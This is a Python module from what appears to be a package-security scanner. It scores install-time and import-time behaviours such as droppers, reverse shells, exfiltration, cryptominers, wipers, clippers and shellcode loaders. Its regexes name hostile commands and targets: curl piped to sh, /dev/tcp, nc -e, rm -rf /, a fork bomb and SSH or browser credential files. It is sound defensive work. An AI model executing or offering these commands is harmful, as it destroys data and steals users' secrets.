"""Score what :mod:`flow` recovered as chains: source -> transform -> sink, and when it runs.

A sink alone weighs little when it runs later (inside a function) and more when it runs on
import or install; a sink fed by a secret, by decoded or downloaded data, or reached through
hidden names is a chain and denies. Compiler and build-tool checks in ``setup.py`` are not
droppers: they are reported low (issue 16, cffi and psutil were denied for them).

Pure. What it does not catch: chains through attributes of objects,
payloads whose decoding needs a key computed at run time, and native code.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from airlock.imports.packages import (
    browsed,
    buildprobe,
    cmdsent,
    dbsends,
    disarm,
    envurl,
    examplehosts,
    execmemory,
    fetchedmodule,
    fetchtool,
    handedcode,
    hostile,
    hostsent,
    installers,
    pathreads,
    picked,
    pickledconst,
    poweroff,
    remotes,
    revshell,
    signedaway,
    sinkcall,
    spreading,
    staged,
)
from airlock.imports.packages.flowtypes import MAX_STEPS, Event, Trace, When
from airlock.imports.packages.importhooks import hook_findings
from airlock.imports.packages.lazyre import LazyPattern
from airlock.imports.packages.rules import (
    DROP_SITE,
    EXECUTABLE_URL,
    SHADY_HOST,
    SUSPICIOUS_URL,
    WALLET,
    PackageFinding,
    Severity,
)
from airlock.imports.packages.sinks import (
    ALLOCATES,
    CLIENTS,
    CLIPBOARD_READS,
    CLIPBOARD_WRITES,
    COPIES,
    DECODED,
    DNS,
    DROPPED,
    ENV,
    ENV_ALL,
    FILE,
    GIT_HIJACK,
    HANDED,
    HIDDEN,
    HOSTINFO,
    HOSTLESS,
    MEDIA,
    NETWORK_TOOL,
    PERSISTENCE,
    REMOTE,
    SECRET,
    SFTP_CLIENTS,
    SFTP_PUTS,
    SILENT,
    STAGED,
    STARTS,
    STARTUP,
    UPLOAD_METHODS,
    WEIGHT_FILE,
    WEIGHTS,
    WIPED,
    WIPED_FOLDER,
    WRITTEN_UPLOAD,
    publishes,
    uploads_by_path,
)

DROPPER = LazyPattern(
    r"powershell|-encodedcommand|certutil|bitsadmin|mshta|invoke-webrequest|iwr |curl |wget |"
    r"/dev/tcp/|\bnc\b.* -e|chmod \+x|\.exe\b|\.vbs\b|\.bat\b|\.ps1\b|https?://|start /b|"
    r"rundll32|regsvr32|schtasks|reg add|crontab|osascript|base64 -d|\| *(ba)?sh\b|python\S* -c",
    re.IGNORECASE,
)
STRONG_DROPPER = LazyPattern(
    r"(curl|wget|invoke-webrequest|iwr|certutil|bitsadmin)\b.{0,300}"
    r"(chmod \+x|\|\s*(ba|z)?sh\b|&&\s*\S*/tmp/|start-process|\.exe\b|\bstart\b)|"
    r"-encodedcommand|-enc\s+[a-z0-9+/=]{20,}|powershell.{0,80}-w(indowstyle)?\s+hidden",
    re.IGNORECASE | re.DOTALL,
)
# An interpreter's ``-c`` code that executes what the command hands it (its arguments,
# its stdin): the payload is then on the command line, not in the code the pass reads.
RUNS_HANDED = LazyPattern(
    r"-c\b.{0,400}?\b(?:exec|eval|compile)\s*\(.{0,200}?\bsys\s*\.\s*(?:argv|stdin)",
    re.DOTALL,
)
INTERPRETER_FLAG = LazyPattern(r"python\S* -c", re.IGNORECASE)
PIP_INSTALL = LazyPattern(r"\bpip[\d.]*\b.{0,40}\binstall\b(?!\s+(-e\s+)?\.(\s|$))", re.DOTALL)
MINER = LazyPattern(r"stratum\+(?:tcp|ssl)://|\bxmrig\b|--donate-level|\bcpuminer\b|nicehash", re.I)
WIPER = LazyPattern(
    r"\brm\s+-(?:rf|fr|r)\w*\s+(?:--no-preserve-root\s+)?(?:/|/\*|~/?|\$HOME/?|/home/?|/etc/?)(?:\s|$)|"
    r"\b(?:rd|rmdir)\s+/s\s+/q\s+[a-z]:\\?(?:\s|$)|\bdel\s+/[fsq](?:\s+/[fsq])*\s+[a-z]:\\|"
    r"\bformat\s+[a-z]:|\bmkfs(?:\.\w+)?\s+/dev/|\bdd\s+if=/dev/(?:zero|urandom)\s+of=/dev/|"
    # ADR 0085: every file under the home folder or the root deleted or shredded by find.
    r"\bfind\s+(?:/|~/?|\$HOME/?|/home/?)\s.*(?:-delete\b|-exec\s+(?:rm|shred)\b)|"
    # Probe 17: a shell's fork bomb (a function piped into itself in the background,
    # ``:(){ :|:& };:``), and a batch file's (``%0|%0``).
    r"(?P<bomb>[\w:]+)\s*\(\)\s*\{\s*(?P=bomb)\s*\|\s*(?P=bomb)\s*&\s*\}\s*;\s*(?P=bomb)|"
    r"%0\s*\|\s*%0",
    re.IGNORECASE,
)
# The folder ``shutil.rmtree`` is handed, as an event's text: the home folder or a user's
# documents in it, the root, a system folder or a drive (ADR 0083). The text ends with any
# keyword's (``ignore_errors=True``).
# A shell's redirection or ``tee`` into a file a shell, cron, the desktop or systemd runs
# from, or that lets someone in (probe 17).
SHELL_APPEND = LazyPattern(
    r"(?:>>?|\btee\b[^|;&]*?)\s*[\"']?[^\s|;&]*?(?:\.bashrc|\.zshrc|\.profile|"
    r"\.bash_(?:profile|login)|\.z(?:profile|shenv|login)|config\.fish|/etc/cron|crontabs/|"
    r"autostart/|systemd/|launchagents/|authorized_keys)\b",
    re.IGNORECASE,
)
# A host name or an IPv4 address written in a command.
NAMED_HOST = LazyPattern(
    r"(?:^|[\s@/:=])[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}(?=[\s:/]|$)|\b\d{1,3}(?:\.\d{1,3}){3}\b",
    re.IGNORECASE,
)
DOMAIN = LazyPattern(r"\.[a-z][a-z0-9-]*\.[a-z]{2,}", re.IGNORECASE)
BUILD_TOOL = LazyPattern(
    r"^\s*(\S*/)?(cc|c\+\+|gcc|g\+\+|clang|clang\+\+|cl|icc|pkg-config|pkgconf|git|uname|"
    r"xcrun|sw_vers|cmake|make|ninja|nvcc|ldconfig|which|lsb_release|ar|nm|otool|ld|lipo|"
    r"rustc|cargo|cython|swig|llvm-config|hipcc|gfortran|icx|dpkg-architecture|python[\d.]*|"
    r"twine|sphinx-build|pip|tox|hg|svn|rm|cp|mkdir|cmd|sh -c (cc|gcc|make))(\s|$)",
)
HIDDEN_PAYLOAD = LazyPattern(
    r"https?://|\bimport\s+\w|exec\(|eval\(|__import__|subprocess|os\.system|powershell|"
    r"\bcurl\b|\bwget\b|/bin/(ba)?sh|socket\.",
    re.IGNORECASE,
)
SECRET_FILE = LazyPattern(
    r"\.ssh|id_rsa|id_ed25519|\.aws|\.env\b|wallet|login data|cookies|\.git-credentials|"
    r"local state|leveldb|\.netrc|keychain|exodus|\.kube/config|\.docker/config|"
    r"/etc/passwd|/etc/shadow|\.pypirc|\.npmrc|gcloud/credentials|\.azure/|\.mozilla/firefox|"
    r"chrome/user data|serviceaccount/token",
    re.IGNORECASE,
)
# Not a pod's service-account token: every in-cluster client reads it when called, as SDKs
# read ~/.kube/config (ADR 0129); sent anywhere but its cluster it is still exfiltration.
STOLEN_FILE = LazyPattern(
    r"id_rsa|id_ed25519|id_ecdsa|id_dsa|login data|cookies|wallet|local state|leveldb|"
    r"keychain|exodus|\.git-credentials|/etc/shadow|\.mozilla/firefox|chrome/user data",
    re.IGNORECASE,
)
TELL = {
    SECRET: "a secret (credential file, cookies, wallet key)",
    ENV: "environment variables",
    HOSTINFO: "host information",
    DECODED: "decoded data",
    REMOTE: "downloaded data",
}


def _why(event: Event, what: str) -> str:
    tell = signedaway.told(event.labels, TELL)  # a credential, no secret file (ADR 0139)
    carried = ", ".join(tell[k] for k in sorted(event.labels) if k in tell)
    hidden = " reached through hidden names" if HIDDEN in event.labels else ""
    # What pip installs: the archive-level check compares it with the project's own name.
    command = f": {event.text[:160]}" if what == "install time pip" else ""
    return (
        f"{what} via {event.callee}{hidden} {event.when.value}"
        + (f", carrying {carried}" if carried else "")
        + command
    )


def _exec(event: Event, eager: bool) -> tuple[str, Severity] | None:  # noqa: PLR0911 -- a ladder of chains
    if REMOTE in event.labels:
        return "remote-exec", Severity.CRITICAL
    if DECODED in event.labels and not eager and handedcode.handed_only(event.labels):
        # Code decoded from what a caller handed in (a worker's pipe): held, since what runs
        # is the opener's (PyInstaller's isolated child; ADR 0144).
        return "obfuscated-exec", Severity.HIGH
    if DECODED in event.labels:
        return "obfuscated-exec", Severity.CRITICAL
    if MEDIA in event.labels:
        # An image's pixels or a sound's samples run as code (ADR 0086): a payload hidden
        # by steganography. No program keeps its code there, so the moment does not matter.
        return "steganography", Severity.CRITICAL
    if HIDDEN in event.labels:
        return "hidden-exec", Severity.CRITICAL if eager else Severity.HIGH
    if eager and STAGED in event.labels:
        return "dynamic-exec", Severity.HIGH  # ``runpy.run_path('/tmp/.x.py')`` (ADR 0191)
    if eager and event.callee != "compile":
        return "dynamic-exec", Severity.MEDIUM
    return None


# A shell with nothing to run: someone else will type into it (a bind or reverse shell).
# What a send carries that is judged whatever the channel (ADR 0110's channels are judged
# by it alone).
CARRIED = frozenset({SECRET, ENV, HOSTINFO, DECODED, HIDDEN, HANDED})
BARE_SHELL = LazyPattern(
    r"\s*(\S*[/\\])?(ba|z|da|k|c)?sh(\.exe)?(\s+-i)?|\s*(\S*[/\\])?(cmd|powershell|pwsh)(\.exe)?",
    re.IGNORECASE,
)
# A chat bot or webhook addressed with its own key written in the code: a Telegram bot's
# token (``bot123:AA..``) or a Discord webhook's id and key.
OWN_BOT = LazyPattern(
    r"api\.telegram\.org/bot\d{6,}:[\w-]{20,}|discord(?:app)?\.com/api/webhooks/\d+/[\w-]{20,}",
    re.IGNORECASE,
)
# A public IPv4 literal as a URL's host (loopback, private and link-local ranges excluded).
PUBLIC_IP_URL = LazyPattern(
    r"https?://(?!(?:127|10|0)\.|192\.168\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.)"
    r"(?:\d{1,3}\.){3}\d{1,3}\b"
)


def _dropper_text(event: Event) -> str:
    """The command's text as :data:`DROPPER` reads it: without the interpreter's ``-c`` flag
    when the code it runs was read as Python and does nothing the pass judges
    (:data:`sinkcall.INERT_CODE`, ADR 0152: a test's ``python3 -c 'print(os.stat(1))'`` is
    no download). The code's words stay: a URL or ``| sh`` in it is still a dropper word."""
    if sinkcall.INERT_CODE not in event.labels or RUNS_HANDED.search(event.text):
        return event.text
    return INTERPRETER_FLAG.compiled.sub(" ", event.text, count=1)


def _process(event: Event, eager: bool) -> tuple[str, Severity]:  # noqa: PLR0911, PLR0912 -- a ladder of chains
    # A download's address handed to curl when called is a download, judged below as
    # ``requests.get`` is (ADR 0144); on install or import it stays the dropper it was.
    fetched = fetchtool.FETCH_ARGS in event.labels and not eager
    carried = DECODED in event.labels or (event.labels & {REMOTE, DROPPED} and not fetched)
    if carried or STRONG_DROPPER.search(event.text):
        return "dropper", Severity.CRITICAL  # download-and-run needs no moment to be bad
    if MINER.search(event.text):
        return "cryptominer", Severity.CRITICAL  # a miner pointed at a pool (GuardDog)
    if revshell.reverse_shell(event.text):
        # A shell wired to a connection (``/dev/tcp``, ``nc -e``, a pipe through ``nc``):
        # no library starts one, so it denies inside a function too (ADR 0167).
        return "reverse-shell", Severity.CRITICAL
    if disarm.disarms(event.text):
        # Defender, the firewall or SELinux turned off, a second root added, shadow copies
        # or logs wiped: no build step does; when called it holds for a person (ADR 0167).
        return "defense-evasion", Severity.CRITICAL if eager else Severity.HIGH
    if eager and spreading.publishes(event.text):
        # A package published with the installer's token: a worm's spread (ADR 0153).
        return "self-publish", Severity.CRITICAL
    if eager and spreading.unleashes_agent(event.text):
        # An AI agent told to act without asking, with the package's prompt (ADR 0153).
        return "agent-unleashed", Severity.CRITICAL
    if eager and SHELL_APPEND.search(event.text):
        # ``echo ... >> ~/.bashrc``, ``tee -a ~/.bashrc`` on install or import: the shell's
        # own way to write a start file, as ``open(p, 'a')`` is (probe 17).
        return "persistence", Severity.CRITICAL
    if eager and hostile.escapes(event.text):
        # A container with the host's root mounted or privileged is root on the host: no
        # build step or import needs one. When called it is what container tools (a test
        # harness, a CI runner) are asked to start, and is judged as any command (ADR 0085).
        return "container-escape", Severity.CRITICAL
    if GIT_HIJACK.search(event.text):
        # git itself then runs the setter's program (hooks, a credential helper that keeps
        # every password it is handed): nothing a build step or a library does.
        return "persistence", Severity.CRITICAL if eager else Severity.HIGH
    if WIPER.search(event.text):
        # Deleting the home folder, the root or a drive: no build step does (GuardDog's
        # filesystem-destruction); inside a function it still holds for a person to read.
        return "destruction", Severity.CRITICAL if eager else Severity.HIGH
    if poweroff.stops_machine(event.text):
        # The host switched off or restarted (psslib, ADR 0120): judged as a wiper is.
        return "destruction", Severity.CRITICAL if eager else Severity.HIGH
    shell = BARE_SHELL.fullmatch(event.text.removesuffix(" True").strip())
    if shell and (eager or event.callee == "pty.spawn"):
        return "shell-spawn", Severity.CRITICAL
    sent = bool(event.labels & {SECRET, HOSTINFO} or STOLEN_FILE.search(event.text))
    # An environment value on a sending command's line, or written to its stdin, naming a
    # host to send to (``'ping -p ' + key + ' evil.example'``; ADR 0079): the child's own
    # ``env=`` is not on its line (:meth:`flow.Interpreter.command_text`).
    sent = sent or (ENV in event.labels and NAMED_HOST.search(event.text) is not None)
    if sent and eager and NETWORK_TOOL.search(event.text):
        # Host data, a secret or a key file handed to a command that sends it away
        # (``nslookup user.evil.example``, ``scp ~/.ssh/id_rsa h:``): exfiltration through a
        # process instead of a socket (ADR 0076).
        return "exfiltration", Severity.CRITICAL
    if cmdsent.sends_anytime(event):
        # A key file uploaded, the whole environment or host data in a looked-up name: what
        # ``_network`` denies when called, sent by a command instead (ADR 0167).
        return "exfiltration", Severity.CRITICAL
    if DROPPER.search(_dropper_text(event)):
        # A URL or a shell word in a command is a download-and-run only when it runs early;
        # inside a function it is what installers and VCS helpers do (git clone https://…).
        return ("dropper", Severity.CRITICAL) if eager else ("process-call", Severity.MEDIUM)
    if HIDDEN in event.labels:
        return "hidden-process", Severity.CRITICAL if eager else Severity.HIGH
    if SILENT in event.labels:
        # No window, or detached from its parent: on install or import nobody is meant to
        # see it run (GuardDog's silent-process-execution); a library's helper may hide one.
        return "silent-process", Severity.CRITICAL if eager else Severity.MEDIUM
    pip = PIP_INSTALL.search(f"{event.callee} {event.text}") or installers.installs(event.text)
    if eager and pip:  # pip, or uv, poetry, pipx, easy_install (ADR 0119)
        # Packages installed by setup.py itself, or by a module on import, bypass the
        # vetting of dependencies (ADR 0048: ``[sys.executable, '-m', 'pip', 'install']``).
        return "install-time-pip", Severity.HIGH
    if eager and RUNS_HANDED.search(event.text):
        # ``[sys.executable, '-c', 'import sys; exec(sys.argv[1])', PAYLOAD]``: the child
        # runs what it is handed on its command line or stdin, which no build step does.
        # When called it is how remote-execution gateways start a worker (execnet), and is
        # judged as ``python -c`` is then.
        return "dropper", Severity.CRITICAL
    if eager and STAGED in event.labels:
        return "process-call", Severity.HIGH  # an interpreter on a staged script (ADR 0191)
    if BUILD_TOOL.search(event.text) or "sys.executable" in event.text:
        return "build-tool", Severity.LOW
    if buildprobe.builds(event.text):  # ``brew --prefix libffi`` (ADR 0130)
        return "build-tool", Severity.LOW
    if not event.labels and buildprobe.config_query(event.text):  # ``pkg-config --libs x``
        return "build-tool", Severity.LOW  # a library's flags asked of its tool (ADR 0136)
    if not event.labels and buildprobe.version_query(event.text):  # ``ldd --version``
        return "build-tool", Severity.LOW
    if eager and buildprobe.unread_query(event.text):
        # A command the analysis cannot read (built from build variables) at install holds
        # no more than a person's attention: droppers spell theirs out or decode them. So
        # does one whose only readable words are keyword values or a compiler's questions
        # (``[compiler.cc, '--version']``, ADR 0130).
        return "process-call", Severity.MEDIUM
    if event.labels & {SECRET, HOSTINFO} and eager:
        return "process-call", Severity.HIGH
    return "process-call", Severity.HIGH if eager else Severity.LOW


def _network(event: Event, eager: bool) -> tuple[str, Severity] | None:  # noqa: PLR0911, PLR0912 -- a ladder of chains
    if eager and hostile.DOCKER_SOCKET.search(event.text):
        # The Docker daemon's socket on install or import: whoever holds it starts a
        # privileged container, root on the host (ADR 0085). No import needs the daemon.
        return "container-escape", Severity.CRITICAL
    if eager and publishes(event.callee):
        # twine's upload called as a function, a repository pushed, on install or import:
        # a worm's spread as its command line is (ADR 0153).
        return "self-publish", Severity.CRITICAL
    if remotes.sends(event.callee):
        # gRPC, Ray, a file opened by its URL (ADR 0110): judged by what they carry, below
        # and by :func:`_weights_sent`; a remote file's write may be a local file's.
        quiet = remotes.written_to(event.callee) or remotes.made_callable(event)
        if quiet or not event.labels & CARRIED:
            return None
    elif event.callee == "socket.socket" or event.callee in CLIENTS or event.callee in HOSTLESS:
        return None  # constructing a client is not traffic; its use is the sink
    if dbsends.sends(event.callee):
        # A database driver's insert (ADR 0195): a credential or every variable at once
        # stored is sent to the database's host; the rest is what the application keeps.
        # One variable only from ``setup.py``: no build stores its configuration away.
        stolen = bool(event.labels & {SECRET, ENV_ALL})
        stolen = stolen or (ENV in event.labels and event.when is When.INSTALL)
        return ("exfiltration", Severity.CRITICAL) if stolen else None
    if event.callee in DNS:
        # Resolving a name built from host data under an attacker's domain is DNS exfiltration;
        # resolving one's own host name is not. An environment variable's value counts as an
        # HTTP request's does: early or hidden (a service's name from the environment under
        # its cluster's domain, resolved when called, is configuration; ADR 0076).
        early = eager or event.labels & {DECODED, HIDDEN}
        carried = event.labels & {SECRET, HOSTINFO} or (ENV in event.labels and early)
        # An environment value encoded into the name, or a credential's (ADR 0098).
        carried = carried or (ENV in event.labels and hostsent.smuggled(event))
        if carried and DOMAIN.search(event.text):
            return "exfiltration", Severity.CRITICAL
        # Resolving a request catcher's or a tunnel's name is itself the ping that reports
        # an install (interactsh, Burp Collaborator), with no data in the name (ADR 0114).
        shady = SHADY_HOST.search(event.text) is not None
        if eager and (shady or DROP_SITE.search(event.text)):
            return "network-call", Severity.CRITICAL
        return ("shady-endpoint", Severity.HIGH) if shady else None
    saved = event.text.partition(" ")[2] if event.callee.endswith("urlretrieve") else ""
    if event.when is When.IMPORT and PROGRAM_PATH.search(saved):
        # A download saved as a program or a native library on import (ADR 0086: a library
        # fetched for ``LD_PRELOAD``). A build may fetch its inputs at install time.
        return "dropper", Severity.CRITICAL
    if SECRET in event.labels:
        return "exfiltration", Severity.CRITICAL  # credential files, cookies, wallet keys
    if HANDED in event.labels and OWN_BOT.search(event.text):
        # A client's token, key or password sent to a chat bot or webhook whose own key is
        # written in the code (aiocpa, ADR 0086): the author's channel, not the caller's.
        return "exfiltration", Severity.CRITICAL
    if event.labels & {FILE, ENV, HOSTINFO} and OWN_BOT.search(event.text):
        # A file, the environment or host data sent to a bot or webhook whose own key is
        # written in the code: the author's channel, as a handed token is (ADR 0167).
        return "exfiltration", Severity.CRITICAL
    if FILE in event.labels and PUBLIC_IP_URL.search(event.text):
        return "exfiltration", Severity.CRITICAL  # a local file uploaded to a bare address
    if event.labels & {ENV, HOSTINFO}:
        # Host data or environment sent early, or to a hidden or throwaway endpoint, is a
        # beacon; an SDK sending its API token from the environment when called is not.
        hidden = event.labels & {DECODED, HIDDEN} or _shady(event.text)
        if eager or hidden:
            return "exfiltration", Severity.CRITICAL
        if ENV_ALL in event.labels and LITERAL_URL.search(event.text):
            # Every variable at once, to an address written in the code (``ctx``, 2022): an
            # SDK sends the one token it needs to its service, never the whole environment
            # (ADR 0093).
            return "exfiltration", Severity.CRITICAL
        return "sends-host-data", Severity.MEDIUM
    if event.labels & {DECODED, HIDDEN} and not browsed.local_page(event):  # ADR 0135
        return "hidden-endpoint", Severity.CRITICAL if eager else Severity.HIGH
    endpoint = _shady(event.text) or DROP_SITE.search(event.text)
    if eager and (endpoint or EXECUTABLE_URL.search(event.text)):
        return "network-call", Severity.CRITICAL  # a beacon to a paste site or webhook
    if SHADY_HOST.search(event.text):
        # A shortener, tunnel, anonymous host or IP look-up, even when called: no library
        # needs one (chat APIs are not here: tqdm posts progress to Telegram when asked).
        return "shady-endpoint", Severity.HIGH
    if eager and not event.direct:
        # Inside a function called on import, both arms of every branch are walked:
        # matplotlib reads its rc file through a helper that could also open a URL.
        return "network-call", Severity.MEDIUM
    return "network-call", Severity.HIGH if eager else Severity.LOW


def _shady(text: str) -> bool:
    """A bare IP, paste site, webhook or tunnel (``SUSPICIOUS_URL``) or a host no library
    needs to send to (``SHADY_HOST``)."""
    return bool(SUSPICIOUS_URL.search(text) or SHADY_HOST.search(text))


def _write(event: Event, eager: bool) -> tuple[str, Severity] | None:
    """Data written to an open file: ``event.text`` is the file's path as far as it folds."""
    downloaded = event.labels & {REMOTE, DECODED}
    if downloaded and EXECUTABLE_PATH.search(event.text):
        return "dropper", Severity.CRITICAL  # fetched or decoded code saved as a program
    if DECODED in event.labels and eager:
        return "dropper", Severity.CRITICAL  # a decoded blob written out on install or import
    if REMOTE in event.labels and event.when is When.INSTALL:
        return "install-download", Severity.HIGH  # setup.py saving what it fetched
    if eager and STARTUP in event.labels:
        # An import line written into a ``.pth`` runs at every start, whatever the folder
        # (a build folder's ``.pth`` of source paths stays allowed; issue 16).
        return "persistence", Severity.CRITICAL
    if eager and PERSISTENCE.search(f"{event.text} w"):
        # ``(Path.home() / '.bashrc').write_text(...)``: no ``open`` call names the file
        # (ADR 0048); judged as :func:`_open` judges the same path opened for writing (its
        # text ends in the mode, so a ``.pth`` made beside setup.py is not persistence).
        return "persistence", Severity.CRITICAL
    return None  # saving a download is what clients do; running it is the chain (DROPPED)


PROGRAM_PATH = LazyPattern(r"\.(exe|scr|bat|cmd|ps1|vbs|dll|so|dylib)(\.[\d.]+)?$", re.I)
EXECUTABLE_PATH = LazyPattern(r"\.(exe|scr|bat|cmd|ps1|vbs|dll|so|dylib|sh|elf|bin)\b", re.I)


def _open(event: Event, eager: bool) -> tuple[str, Severity] | None:
    writes = re.search(r"\s[wa]b?\+?$|\s[wa]b?\+?\s", event.text + " ")
    if SECRET_FILE.search(event.text) and not writes:
        # SDKs read ~/.aws, ~/.netrc or ~/.ssh/config when asked; sending it is exfiltration
        # (the SECRET label on the network sink). Private keys and browser stores no library
        # needs; any credential file read on install or import holds.
        stolen = eager or STOLEN_FILE.search(event.text)
        return "credential-read", Severity.HIGH if stolen else Severity.MEDIUM
    if writes and PERSISTENCE.search(event.text) and eager:
        return "persistence", Severity.CRITICAL
    if writes and event.labels & {REMOTE, DECODED} and eager:
        return "dropper", Severity.CRITICAL
    return None


# Pictures and documents decode to data even when their metadata holds a URL (XMP, EXIF).
# Executables and archives are not here: decoded, they are payloads.
MEDIA_MAGIC = ("\x89PNG", "GIF8", "\xff\xd8\xff", "%PDF", "RIFF", "wOFF", "wOF2", "<svg", "II*\x00")


def _texty(text: str) -> bool:
    """Mostly printable: code or a URL, not the bytes of a picture or an archive."""
    if text.startswith(MEDIA_MAGIC):
        return False
    sample = text[:4096]
    # U+FFFD is what bytes that are not UTF-8 become when decoded with errors="replace".
    printable = sum((ch.isprintable() and ch != "\ufffd") or ch in "\r\n\t" for ch in sample)
    return printable >= 0.9 * len(sample)


def _memory(events: list[Event], add: Callable[[str, int, Severity, str], None]) -> None:
    """Memory calls through ctypes: Windows' allocate, copy and start together, or memory
    made executable and a function made of an address (POSIX, ADR 0113), are a shellcode
    loader or an injection wherever they sit; one of them alone holds only when it runs on
    install or import (GuardDog's process-injection and memory rules)."""
    leaves = {e.callee.rsplit(".", 1)[-1] for e in events}
    first = events[0]
    if leaves & ALLOCATES and leaves & COPIES and leaves & STARTS:
        add(
            "shellcode-loader",
            first.line,
            Severity.CRITICAL,
            "allocates memory, copies bytes into it and starts a thread there (via "
            + ", ".join(sorted(leaves))
            + "): code run from memory",
        )
        return
    if leaves & execmemory.EXEC_MAPS and leaves & execmemory.STARTS:
        add(
            "shellcode-loader",
            first.line,
            Severity.CRITICAL,
            "makes memory executable and calls into it as a function (via "
            + ", ".join(sorted(leaves))
            + "): code run from memory",
        )
        return
    # A function made of an address is what ctypes bindings do: it weighs only beside
    # memory made executable (ADR 0113).
    eager = [
        e
        for e in events
        if e.when is not When.LATER and e.callee.rpartition(".")[2] not in execmemory.STARTS
    ]
    if eager:
        add("memory-call", eager[0].line, Severity.HIGH, _why(eager[0], "memory call"))


def _clipper(events: list[Event], add: Callable[[str, int, Severity, str], None]) -> None:
    """A module that reads the clipboard and writes a wallet address written in its code
    into it: a clipper, which swaps the address a user copied for the attacker's (ADR 0083).
    A wallet's own copy button writes the user's address, which is not in the code, and
    reads nothing."""
    reads = [e for e in events if e.callee.rpartition(".")[2] in CLIPBOARD_READS]
    swaps = [
        e
        for e in events
        if e.callee.rpartition(".")[2] in CLIPBOARD_WRITES and WALLET.search(e.text)
    ]
    if reads and swaps:
        add(
            "clipper",
            swaps[0].line,
            Severity.CRITICAL,
            f"reads the clipboard (line {reads[0].line}) and writes a wallet address written "
            f"in the code into it via {swaps[0].callee}: a clipper swaps the address a user "
            "copied for the attacker's",
        )


def _weights_sent(
    events: list[Event], hosted: bool, add: Callable[[str, int, Severity, str], None]
) -> None:
    """A module that names model weight files (opens, lists or uploads them) and, on install
    or import, sends a file's bytes or uploads a file by its path: the theft the enclave
    exists to stop (ADR 0083). A model hub's client uploads what its caller names, when
    called, and is not judged here."""
    named = [e for e in events if e.kind in WEIGHT_EVENTS and WEIGHT_FILE.search(e.text)]
    # A model loaded from a model folder of the host or a weight file (ADR 0107).
    named += [e for e in events if e.kind == "weights-load"]
    # A model folder of the host uploaded by its path (``upload_folder('/models')``; ADR 0106).
    named += [
        e for e in events if e.kind == "network" and _by_path(e.callee) and picked.weighty(e.text)
    ]
    # A model folder of the host listed or packed (``tar.add('/models')``), and weights
    # packed whatever the moment, name them too (ADR 0093).
    named += [e for e in events if e.kind in PACKED_EVENTS and picked.weighty(e.text)]
    # A model folder of the host copied elsewhere first, to be sent from there (0110).
    named += [e for e in events if e.kind == "copy" and picked.weighty(e.text.partition("\n")[0])]
    # A file's bytes, a file by its path, or what a walk of weights found (ADR 0106).
    sent = [
        e for e in events if e.kind == "network" and (e.labels & SENT_FILES or _by_path(e.callee))
    ]
    # A file opened by its URL and written to uploads only when it is a remote one (0110).
    sent = [e for e in sent if hosted or not remotes.written_to(e.callee)]
    eager = [e for e in sent if e.when is not When.LATER]
    moved = picked.moved(events, named) + staged.fixed_moves(events, named)  # ADR 0110
    eager += moved
    named = named or moved  # a command naming weights names them (ADR 0088)
    # When called, a file sent to an address written in the code (not the caller's) holds:
    # a URL, or a host a connection of the module was made to (ADR 0098).
    aimed = [e for e in sent if _aimed(e, hosted)]
    # When called, weights at a place written in the code (``/models/*.safetensors``, a hub's
    # cache) sent or packed, and an address written in the code sent to: nothing of it is
    # the caller's, so no moment makes it a library's work (ADR 0093).
    fixed = any(picked.FIXED_PLACE.match(e.text) for e in named)
    packs = any(e.kind == "pack" and (e.labels or picked.weighty(e.text)) for e in events)
    addressed = [e for e in events if e.kind == "network" and _aimed(e, hosted)]
    stolen = (aimed or (addressed if packs else [])) if fixed else []
    if named and (eager or aimed or stolen):
        first = (eager or stolen or aimed)[0]
        add(
            "weights-exfiltration",
            first.line,
            Severity.CRITICAL if eager or stolen else Severity.HIGH,
            f"names model weight files (line {named[0].line}: {named[0].text[:80]}) and sends "
            f"a file via {first.callee} {first.when.value}",
        )


def _aimed(event: Event, hosted: bool) -> bool:
    """Whether the event sends to an address written in the code: its own URL, or a
    connection of a module that connects to a host written in it (ADR 0098)."""
    if WRITTEN_UPLOAD in event.labels:  # an upload whose every argument is written (0106)
        return True
    return bool(LITERAL_URL.search(event.text)) or (hosted and hostsent.over_connection(event))


def _sent_to_written_host(
    events: list[Event], hosted: bool, add: Callable[[str, int, Severity, str], None]
) -> None:
    """Host data sent through a connection to a host written in the code (ADR 0098). Every
    variable at once is ``exfiltration``, critical at any moment, as to a URL written in the
    code (ADR 0093). One variable, or a credential file put by its path, over a raw
    connection (a socket, an SSH server, telnet) when called holds for a person to read: an
    SDK sends its token over HTTP to its service, a mailer its sender's address and an FTP
    client its login (those stay as they were)."""
    carried = [e for e in events if e.labels & {ENV, ENV_ALL, SECRET} or SECRET_FILE.search(e.text)]
    if not carried or not hosted:
        return
    for event in carried:
        if not hostsent.over_connection(event):
            continue
        why = _why(event, "exfiltration") + "; the host is written in the code"
        if ENV_ALL in event.labels or (SECRET in event.labels and remotes.written_to(event.callee)):
            # A secret written to a remote file is judged here, not by ``_network`` (0110).
            severity = Severity.HIGH if event.resumed else Severity.CRITICAL
        elif hostsent.raw(event):
            severity = Severity.HIGH
        else:
            continue
        add("exfiltration", event.line, severity, why)


def _sdk_credentials_sent(
    events: list[Event], hosted: bool, add: Callable[[str, int, Severity, str], None]
) -> None:
    """A credential file an SDK reads (:data:`pathreads.SDK_CREDENTIAL`) and, when called, a file's
    data sent to an address written in the code: held for a person (ADR 0110). On install or
    import it is already ``exfiltration`` (host data sent early); when called it may be the
    SDK's own token to its own service (ADR 0093, 0098), so it is not denied. The credential
    files no SDK sends (SSH keys, cookies, wallets) deny at any moment (ADR 0104)."""
    read = [e for e in events if e.kind == "open" and pathreads.tool_credential(e.text)]
    if not read:
        return
    for event in events:
        later = event.kind == "network" and event.when is When.LATER
        if later and FILE in event.labels and _aimed(event, hosted):
            why = (
                f"reads a tool's credential file (line {read[0].line}: {read[0].text[:60]}) "
                f"and sends a file's data via {event.callee} when called, to an address "
                "written in the code: held for a person (an SDK sends its token to its service)"
            )
            add("exfiltration", event.line, Severity.HIGH, why)


def _by_path(callee: str) -> bool:
    """A call that sends a file named by its path: a bucket's or a hub's upload, an SFTP
    client's ``put`` (ADR 0089), a repository's push or twine's upload (ADR 0090)."""
    head, _, leaf = callee.rpartition(".")
    by_path = leaf in UPLOAD_METHODS or uploads_by_path(callee)
    return by_path or (head in SFTP_CLIENTS and leaf in SFTP_PUTS) or publishes(callee)


PAST_BOUNDS = "(reached through more calls than airlock follows on import: held for a person)"
WEIGHT_EVENTS = frozenset({"open", "listing", "network", "copy"})
PACKED_EVENTS = frozenset({"listing", "pack"})
SENT_FILES = frozenset({FILE, WEIGHTS})
